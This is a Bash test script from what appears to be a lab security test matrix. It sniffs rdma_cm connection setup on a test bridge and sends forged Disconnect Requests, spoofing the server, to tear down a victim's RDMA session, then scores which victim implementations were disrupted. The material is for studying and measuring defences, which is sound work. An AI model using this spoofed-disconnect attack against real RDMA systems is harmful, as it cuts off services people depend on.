# SPDX-License-Identifier: MIT
# NeVerMore 4.3 (cm-disconnect): the attacker on host 3 listens on the bridge
# before the victim starts, learns the communication IDs and QPNs of the
# client's rdma_cm connection from its cleartext CM REQ and REP, and sends the
# client (host 2) a Disconnect Request as if from the server. Victims without
# rdma_cm show no REQ/REP; the attacker then aims DREQs with the wire's QPN and
# made-up IDs at the server's host and the victim must carry on undisturbed.
. "$(dirname "${BASH_SOURCE[0]}")/common.bash"

# cell_cm_blind VICTIM: what to report for a victim without rdma_cm.
cell_cm_blind() {
	local v=$1 line
	victim_wire_bth || true
	fabric on 3 "$ATK" cm-disconnect --dst "$VICTIM_SERVER_IP" --src "$VICTIM_CLIENT_IP" \
		--local-comm-id 0x1 --remote-comm-id 0x2 --remote-qpn "${WIRE_QPN:-0x11}" --count 20 \
		--iface fab3 --json >"$CELL/blind.json" 2>>"$CELL/attack.err"
	victim_attack_done
	victim_wait 15
	case "$v" in
	rdmasec)
		if line=$(victim_grep "$VICTIM_CLIENT_LOG" 'reply: after the attack') &&
			grep -q '"sent":20,"ok":true' "$CELL/blind.json"; then
			matrix_result cm-disconnect "$v" blocked "no rdma_cm; disconnect only over authenticated TLS" \
				"[h2] $line (no CM REQ/REP on the wire; 20 forged DREQs sent to the server's host)"
		else
			matrix_result cm-disconnect "$v" error "" "session did not complete: $(tail -n 1 "$VICTIM_CLIENT_LOG")"
		fi
		;;
	*)
		matrix_result cm-disconnect "$v" not-applicable "no rdma_cm: parameters over a TCP exchange, no CM to disconnect" \
			"no CM REQ/REP on the wire: $(sed -n 's/.*"cm_messages":\([0-9]*\).*/\1/p' "$CELL/learn.json" 2>/dev/null) CM messages seen"
		;;
	esac
}

cell_cm_disconnect() {
	local v=$1 lp line n st delay=0
	# rping: let the pings start; ucmatose's transfer is over within a second, so at once.
	[ "$v" = rping ] && delay=1000
	rm -f "$CELL/learn.json" "$CELL/learn.err"
	# Listen first: the REQ/REP go by while victim_start waits for traffic.
	fabric on 3 "$ATK" cm-disconnect --dst "$VICTIM_CLIENT_IP" --sniff fabbr --iface fab3 --timeout 8 \
		--delay-ms $delay --json >"$CELL/learn.json" 2>"$CELL/learn.err" &
	lp=$!
	for _ in $(seq 1 50); do grep -q listening "$CELL/learn.err" 2>/dev/null && break; sleep 0.1; done
	victim_start "$v" || {
		matrix_result cm-disconnect "$v" error "" "victim did not start: $(tail -n 1 "$CELL/victim-server.log" 2>/dev/null)"
		kill "$lp" 2>/dev/null; wait "$lp" 2>/dev/null; victim_stop; return
	}
	wait "$lp"
	if ! grep -q '"learned":true' "$CELL/learn.json"; then
		cell_cm_blind "$v"
		return
	fi
	echo "cm-disconnect: $(cat "$CELL/learn.json")" >&2
	# What the attacked side's CM made of the DREQ, before the victim ends.
	rdma resource show cm_id 2>/dev/null | grep "src-addr $VICTIM_CLIENT_IP:" >"$CELL/cm_ids.txt"
	victim_attack_done
	victim_wait 10
	n=$(grep -c 'ping data' "$VICTIM_CLIENT_LOG")
	if line=$(victim_grep "$VICTIM_CLIENT_LOG" 'DISCONNECT|RDMA_CM_EVENT_DISCONNECTED|disconnect'); then
		if [ "$v" = rping ]; then
			line="$line after $n of 1000000 pings"
		fi
		matrix_result cm-disconnect "$v" succeeded "" "[h2] $line"
	elif line=$(cell_victim_error_line); then
		matrix_result cm-disconnect "$v" succeeded "" "$line"
	else
		# ucmatose reads CM events only once its transfers are done: a
		# DISCONNECTED event queued earlier changes nothing it does.
		st=$(sed -n 's/.* state \([A-Z_]*\) .*/\1/p' "$CELL/cm_ids.txt" | sort -u | tr '\n' ' ')
		matrix_result cm-disconnect "$v" error "" "missed: DREQ sent (client cm_id state ${st:-unknown}after it), but the victim showed nothing and ended normally (client rc $VICTIM_CLIENT_RC: $(tail -n 1 "$VICTIM_CLIENT_LOG"))"
	fi
}
